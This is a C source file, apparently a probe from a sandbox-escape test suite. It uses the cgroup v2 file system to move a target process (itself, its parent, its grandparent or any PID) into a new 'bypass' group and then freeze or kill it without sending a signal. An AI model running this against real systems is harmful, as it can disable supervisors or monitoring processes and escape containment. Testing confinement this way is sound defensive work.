/*
 * Control groups: whoever may write there stops, kills or limits any process, without a signal.
 * usage: control_group freeze|kill|move PID|parent|grandparent|self
 */
#include "attack.h"

#include <fcntl.h>
#include <mntent.h>
#include <signal.h>
#include <sys/stat.h>

static char root[256], group[320];

static int put(const char *directory, const char *name, const char *text) {
    char path[512];
    snprintf(path, sizeof path, "%s/%s", directory, name);
    int fd = open(path, O_WRONLY);
    if (fd < 0)
        return -1;
    int rc = write(fd, text, strlen(text)) == (ssize_t)strlen(text) ? 0 : -1;
    close(fd);
    return rc;
}

static void find_root(void) {
    FILE *f = setmntent("/proc/mounts", "r");
    for (struct mntent *m; f != NULL && (m = getmntent(f)) != NULL;)
        if (strcmp(m->mnt_type, "cgroup2") == 0)
            snprintf(root, sizeof root, "%s", m->mnt_dir);
    if (root[0] == '\0')
        cannot("no cgroup2 file system is mounted");
}

static pid_t parent_of(pid_t pid) {
    char path[64], line[256];
    int parent = 0;
    snprintf(path, sizeof path, "/proc/%d/stat", pid);
    FILE *f = fopen(path, "r");
    if (f == NULL || fgets(line, sizeof line, f) == NULL || sscanf(strrchr(line, ')') + 1, " %*c %d", &parent) != 1)
        cannot("%s: no parent", path);
    fclose(f);
    return parent;
}

int main(int argc, char **argv) {
    if (argc != 3)
        cannot("usage: control_group METHOD PID");
    find_root();
    pid_t pid = strcmp(argv[2], "self") == 0          ? getpid()
                : strcmp(argv[2], "parent") == 0      ? getppid()
                : strcmp(argv[2], "grandparent") == 0 ? parent_of(getppid())
                                                      : (pid_t)atoi(argv[2]);
    char text[16];
    snprintf(text, sizeof text, "%d", pid);
    snprintf(group, sizeof group, "%s/bypass-%d", root, getpid());
    if (mkdir(group, 0755) != 0)
        stopped_at("mkdir in the cgroup file system");
    int moved = put(group, "cgroup.procs", text), error = errno, done = 0;
    if (moved == 0 && strcmp(argv[1], "move") != 0)
        done = put(group, strcmp(argv[1], "freeze") == 0 ? "cgroup.freeze" : "cgroup.kill", "1");
    usleep(200000);
    (void)put(group, "cgroup.freeze", "0");
    (void)put(root, "cgroup.procs", text);
    for (int i = 0; i < 100 && rmdir(group) != 0; i++)
        usleep(10000);
    if (moved != 0)
        stopped("cgroup.procs: %s", strerror(error));
    if (done != 0)
        stopped_at("control file");
    reached("%s", argv[1]);
}
